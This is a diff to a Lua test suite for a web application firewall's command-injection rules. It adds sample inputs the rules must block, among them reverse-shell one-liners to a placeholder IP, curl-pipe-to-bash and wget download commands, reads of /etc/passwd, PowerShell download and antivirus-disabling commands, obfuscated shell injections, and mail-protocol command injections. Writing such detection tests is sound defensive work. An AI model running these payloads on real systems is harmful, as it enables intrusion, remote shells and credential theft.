@@ -18,7 +18,9 @@ describe_rules("edge.waf.rules command injection shapes", function()
         caught_by(132105, { "a;find / -perm -4000", "| strings /bin/ls", "; docker -H tcp://h:2375 ps",
             "; git -c core.pager=sh log", "; ssh -o StrictHostKeyChecking=no u@h", "| sqlite3 /dev/null",
             "; rsync -a /var/www h::x", "; cat</etc/hosts",
-            "; su -c id", "; java -jar /tmp/x.jar", "; df -h" })
+            "; su -c id", "; java -jar /tmp/x.jar", "; df -h",
+            "; cat$u /etc/hosts" })
+        caught_by(132100, { "x;ls$u -la", "|uname${x} -a" })
         clean({ "I <3 bash, vim & tmux", "Python | Go | MySQL | Docker", "search & find", "sort & filter",
             "npm install && npm test should pass", "vim | tmux | git", "`grep ERROR api.log | tail -n 50` shows nothing",
             "```\nkubectl get pods -n payments\n```", "I love my dog & cat <3" })
@@ -29,8 +31,8 @@ describe_rules("edge.waf.rules command injection shapes", function()
             "| pwsh -c whoami", "cmd /v:on /c dir",
             "bash<<<$(base64 -d<<<aWQ=)", "$((1+2))", "node -e 'require(1)'", "x; if [ -f /x ]; then id; fi",
             "for i in $(seq 1 5); do id; done", "-oProxyCommand=sh -c id", "--checkpoint-action=exec=sh x.sh",
-            "find . -exec id \\;" })
-        clean({ "Hello ${user}!", "${name} placeholder", "price: $5 & $10", "a$b$c", "it$'s fine",
+            "find . -exec id \\;", "!-1", "x; !!", ".shell id", "a;\n.system cat /x" })
+        clean({ "Hello ${user}!", "${name} placeholder", "price: $5 & $10", "a$b$c", "it$'s fine", "wow!! great", "see !-- comment",
             "if [optional] we add it; then we ship", "Task A; done" })
     end)
 
@@ -50,11 +52,11 @@ describe_rules("edge.waf.rules command injection shapes", function()
         caught_by(132180, { "uname -a", "crontab -l", "kill -9 -1", "tac /etc/hosts", "cat /etc/passwd",
             "socat tcp-connect:203.0.113.7:4444 exec:sh,pty", "ls -la /var/www", "nc 203.0.113.7 4444 -e /bin/sh",
             "curl -s https://h.example/i | bash", "wget http://h.example/x -O /tmp/x", "dir c:\\users",
-            "x; /usr/bin/id -u", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
+            "x; /usr/bin/id -u", "cat$u /etc$u/passwd$u", "system('/bin/cat /etc/hosts')", "/usr/local/bin/php" })
         clean({ "ping -c 4 is what I used; packet loss was 0%", "python -m venv .venv is the first step",
             "docker compose up -d brings up postgres", "ls output attached", "cat food, dog food & bird seed",
             "type 2 diabetes", "Type A/B testing", "set 2 of 3", "ID 12345", "echo park, los angeles",
-            "the /usr/bin/python path", "#!/usr/bin/env python3", "installed to /usr/bin/node",
+            "the /usr/bin/python path", "cat$ is my handle", "#!/usr/bin/env python3", "installed to /usr/bin/node",
             "id: 42; name: Ann", "ping <mailto:a@example.org|a@example.org> for access", "curl the health endpoint to check: https://api.example.com/healthz" })
     end)
 
@@ -65,9 +67,18 @@ describe_rules("edge.waf.rules command injection shapes", function()
             "[System.Diagnostics.Process]::Start('cmd.exe')", "(New-Object System.Net.WebClient).DownloadFile('x','y')",
             "$ExecutionContext.InvokeCommand.InvokeScript('id')", "&('I'+'EX') 'whoami'",
             "Set-MpPreference -DisableRealtimeMonitoring $true",
-            "powershell -nop -w hidden -ep bypass", "[char]105+[char]101", "$env:comspec /c whoami", "&(gcm i*x) 'id'" })
+            "powershell -nop -w hidden -ep bypass", "[char]105+[char]101", "$env:comspec /c whoami", "&(gcm i*x) 'id'",
+            "Get-ADUser -Filter *", "; gci c:\\", "&& iwr http://h/x" })
         clean({ "set-up guide", "Get-Together 2024", "out-of-band", "read-only mode", "iex (Investors Exchange)",
             "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
-            "open PowerShell as admin and run the installer", "Ex-Windows admin, now writing PowerShell for fun" })
+            "open PowerShell as admin and run the installer", "the follow-up -- next week", "PS: set-up -- done", "Ex-Windows admin, now writing PowerShell for fun" })
+    end)
+
+    it("132200: mail protocol commands after a line break (SMTP, IMAP, POP3)", function()
+        caught_by(132200, { "a@b.c\r\nRCPT TO:<v@example.org>", "x\\r\\nMAIL FROM:<a@b>", "INBOX\r\na001 LOGIN admin pw",
+            "x\nA1 SELECT INBOX", "1\r\nRETR 1\r\n", "x\nUSER bob\nPASS secret", "help\nVRFY root",
+            "x\nHELO attacker.example\r\n" })
+        clean({ "Q3 list of items\nQ4 delete old ones", "1 select your plan\n2 login to the portal",
+            "hello\nhelo there", "Top 10 tips\ntop 5 reasons", "notes:\nuser guide\npass it on" })
     end)
 end)
